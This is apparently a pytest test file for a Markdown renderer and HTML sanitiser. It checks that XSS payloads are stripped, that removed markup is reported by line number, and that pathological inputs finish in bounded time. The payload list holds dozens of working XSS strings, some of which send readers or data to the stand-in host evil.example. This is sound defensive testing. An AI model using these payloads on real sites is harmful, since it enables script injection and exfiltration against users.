"""Markdown into safe HTML, with every mistake named."""

from __future__ import annotations

import signal
import time
from concurrent.futures import ThreadPoolExecutor

import html5lib
import pytest

from kronika.links import Resolve, Target, Unresolved
from kronika.prose import Rendered, plain, render_prose
from kronika.sanitising import ATTRIBUTES, TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=body></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "text {: onclick='alert(1)' style='color:red' }",
    "## Heading { onmouseover=alert(1) #k-content }",
    "<div id=__config>x</div>",
    "<p id=body name=body>x</p>",
    "<a name=getElementById id=cookie>x</a>",
    "</main></body><plaintext>",
    "<!-- <script>alert(1)</script>",
    "<textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<p onclick=alert(1)>x</p>",
    "<b/onmouseover=alert(1)>x</b>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<a href='https://example.org/' target=_blank ping=https://evil.example>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#x01;javascript:alert(1)'>x</a>",
    "<a href='/\\\\evil.example'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<table lang=pl><tr><td>x</td></tr></table>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<isindex action=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<audio src=x onerror=alert(1)>",
    "<?php echo 1 ?>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
]


def nowhere(address: str) -> Target | Unresolved:
    """Know one record only."""
    if address == "event:known":
        return Target("kalendarium/known.html", "../kalendarium/known.html")
    return Unresolved("link-missing", "event:known")


def render(markdown: str, resolve: Resolve = nowhere) -> Rendered:
    """Render a Polish text that begins on line 5 of its file."""
    return render_prose(markdown, path="docs/news/x.md", line=5, locale="pl", resolve=resolve)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_attack_survives(payload: str) -> None:
    """Every element and attribute that is left is on the allow-list."""
    html = render(f"przed\n\n{payload}\n\npo").html

    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in list(tree.iter())[1:]:
        assert element.tag in TAGS
        framed = {"class", "tabindex", "role", "aria-label"} if element.tag == "div" else set()
        allowed = ATTRIBUTES.get(element.tag, set()) | ATTRIBUTES["*"] | framed | {"rel"}
        assert set(element.attrib) <= allowed
        address = element.attrib.get("href", "")
        assert "script:" not in address.lower()
        assert not address.startswith(("//", "data:"))
        assert not element.attrib.get("id", "").startswith(("k-", "__"))


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if "<style><img" not in each])
def test_text_around_an_attack_stays(payload: str) -> None:
    """Only a style that opens and never closes may take the words behind it along."""
    text = render(f"przed\n\n{payload}\n\nkoniec").text

    assert text.startswith("przed")
    assert "koniec" in text


@pytest.mark.parametrize(
    ("markdown", "found", "line"),
    [
        ("a\n\n<marquee>ważne</marquee>", "<marquee>", 7),
        ("<template>ważne</template>", "<template>", 5),
        ("a\n\n<p onclick='x()'>ważne</p>", "onclick", 7),
        ("`onclick` <u>\n\nważne\n{: onclick='x' }", "onclick", 8),
        ("ważne\n\n## A {: #k-menu }", 'id="k-menu"', 7),
        ("<p id=x>a</p>\n\n<p id=x>ważne</p>", 'id="x"', 7),
        ("`<form>`\n\n<form>ważne</form>", "<form>", 7),
    ],
)
def test_what_was_removed_is_named_with_its_line(markdown: str, found: str, line: int) -> None:
    """The text stays, and a warning tells where to look; what is shown as code is no mistake."""
    rendered = render(markdown)

    assert "ważne" in rendered.text
    removed = [each for each in rendered.problems if each.code == "html-removed"]
    assert (found, line) in [(dict(each.values)["found"], each.line) for each in removed]


@pytest.mark.parametrize(
    ("markdown", "code", "line", "suggestion"),
    [
        ("a\n\n[x](event:unknown)", "link-missing", 7, "event:known"),
        ("[x](event:unknown-2)\n\n[x](event:unknown)", "link-missing", 7, "event:known"),
        ("[x](event:unknown)\n\n[x](event:unknown)", "link-missing", 7, "event:known"),
        ("a\n\n[x](javascript:alert)", "link-scheme", 7, None),
        ("a\n\n[x](data:text/html,x)", "link-scheme", 7, None),
        ("a\n\n[x](file:///c/x)", "link-scheme", 7, None),
        ("a\n\n[x](//example.org/a)", "link-scheme", 7, "https://example.org/a"),
        ("a\n\n[x](www.example.org)", "link-scheme-missing", 7, "https://www.example.org"),
        ("a\n\n# Tytuł", "heading-one", 7, None),
        ("a\n\nTytuł\n=====", "heading-one", 7, None),
        ("a\n\n<h1>Tytuł</h1>", "heading-one", 7, None),
        ("## \n", "heading-empty", 5, None),
        ("# \n\n## \n", "heading-empty", 7, None),
        ("Zasady\n\n## Zasady\n\n#### Dalsze *zasady*", "heading-jump", 9, None),
        ("a\n\n### Od razu", "heading-jump", 7, None),
        ("a\n\n![opis](zdjecie.jpg)", "image-in-text", 7, None),
        ("a\n\n<img src=https://example.org/a.png>", "image-in-text", 7, None),
        ("## Zasady\n\n[x](#zasdy)", "anchor-missing", 7, "#zasady"),
    ],
)
def test_mistakes_are_reported_at_their_line(
    markdown: str, code: str, line: int, suggestion: str | None
) -> None:
    """The line is the one of the file, front matter counted."""
    found = [
        (each.code, each.line, next(iter(each.suggestions), None))
        for each in render(markdown).problems
    ]

    assert (code, line, suggestion) in found


def test_a_text_of_more_elements_in_one_another_than_a_person_writes_is_refused() -> None:
    """The sanitiser would take minutes."""
    assert [each.code for each in render("<div>" * 1000).problems] == ["prose-slow"]


def test_a_stopped_text_leaves_no_trace_in_the_next() -> None:
    """The converter is used again, its signal handler put back."""
    text = "1. a\n\n    b[^1]\n\n[^1]: c"
    before, handler = render(text), signal.getsignal(signal.SIGVTALRM)

    render("- a\n\n    " + "[" * 20_000)

    assert render(text) == before
    assert signal.getsignal(signal.SIGVTALRM) == handler


def test_prose_renders_in_other_threads() -> None:
    """Where no timer can be set, ordinary texts are rendered all the same."""
    with ThreadPoolExecutor(1) as pool:
        assert pool.submit(render, "## A").result() == render("## A")


def test_headings_keep_unique_ids() -> None:
    """Also where a year, a reserved prefix, no letters, or an id written by hand is in the way."""
    rendered = render("## 2014\n\n## 2014\n\n## K-2\n\n## 日本\n\n## A\n\n<p id=a>x</p>")

    assert rendered.headings == (
        (2, "s-2014", "2014"), (2, "s-2014-2", "2014"), (2, "s-k-2", "K-2"),
        (2, "dzial", "日本"), (2, "a-2", "A"),
    )  # fmt: skip
    assert rendered.problems == ()


def test_a_thousand_equal_headings_are_named() -> None:
    """In time, and each otherwise (safety table, H14)."""
    headings = render("## Program\n\n" * 1000).headings

    assert len({identity for _, identity, _ in headings}) == 1000


def test_footnotes_link_both_ways_whatever_their_label() -> None:
    """Their marks stay out of the plain text."""
    rendered = render("raz[^Uwaga] dwa[^ą]\n\n[^Uwaga]: A\n[^ą]: B")

    assert rendered.ids == {"fn-1", "fn-2", "fnref-1", "fnref-2"}
    assert rendered.lead == "raz dwa"
    assert rendered.problems == ()


def test_tables_can_be_scrolled() -> None:
    """With a keyboard too; one with attributes is framed alike."""
    html = render("| a |\n|--:|\n| b |\n\n<table lang=en><tr><td>x</td></tr></table>").html

    assert html.count('<div class="k-table" tabindex="0" role="region"') == 2
    assert html.count("<div") == html.count("</div>") == 2


def test_code_that_looks_like_a_link_is_left_alone() -> None:
    """Neither resolved nor reported."""
    rendered = render('`<a href="x" id="y">`')

    assert rendered.html == '<p><code>&lt;a href="x" id="y"&gt;</code></p>'
    assert (rendered.ids, rendered.problems) == (frozenset(), ())


def test_words_are_not_parted_in_plain_text() -> None:
    """Only blocks stand apart."""
    assert plain("<p>po<strong>ż</strong>ar</p><p>w lesie &amp; polu</p>") == "pożar w lesie & polu"


def test_links_to_other_sites_do_not_tell_where_from() -> None:
    """And open in the same window."""
    html = render("[x](https://example.org)").html

    assert html == '<p><a href="https://example.org" rel="noopener noreferrer">x</a></p>'


def test_a_link_that_leads_nowhere_is_found_where_it_is_a_link() -> None:
    """Not at the same letters in words, in another address or in code."""
    text = "nowhere [nowhere](event:known) `[a](nowhere)` [b](nowhere) <a href='nowhere'>c</a> []()"

    columns = [each.column for each in render(text).problems]

    assert columns == [text.index("](nowhere) <") + 3, text.index("nowhere'") + 1, len(text)]


def test_links_to_records_become_relative_addresses() -> None:
    """And are kept for checking when all pages exist."""
    rendered = render("[wydarzenie](event:known)")

    assert '<a href="../kalendarium/known.html">wydarzenie</a>' in rendered.html
    assert [link.uri for link in rendered.links] == ["kalendarium/known.html"]


def test_headings_get_ids_in_plain_letters() -> None:
    """ł is kept as l, and a link on the page finds them."""
    rendered = render("## Łódź i źródła\n\n[skok](#lodz-i-zrodla)")

    assert 'id="lodz-i-zrodla"' in rendered.html
    assert rendered.problems == ()


@pytest.mark.parametrize(
    "hostile",
    ["[" * 20_000, "![" * 10_000, "<a " * 8_000, "[a](" * 6_000, "*" * 100_000, ">" * 50_000,
     "`" * 60_000, "<" * 60_000, "- " * 30_000, "(" * 100_000, "<div>" * 50_000,
     "<x>" * 80_000, "<i><p>" * 40_000,
     "".join(f"[a](b{number}) " for number in range(20_000))],
)  # fmt: skip
def test_hostile_text_ends_in_bounded_time(hostile: str) -> None:
    """Quadratic input is stopped, not waited for (safety table, H12)."""
    start = time.process_time()

    rendered = render(hostile)

    assert time.process_time() - start < 5
    assert all(
        each.code in ("prose-slow", "html-removed", "heading-empty", "link-missing")
        for each in rendered.problems
    )


def test_one_letter_words_are_tied_but_never_in_code() -> None:
    """Code stays as typed."""
    html = render("dom w mieście i `a i b`").html

    assert "w\u00a0mieście i\u00a0<code>a i b</code>" in html or "w\u00a0mieście" in html
    assert "<code>a i b</code>" in html
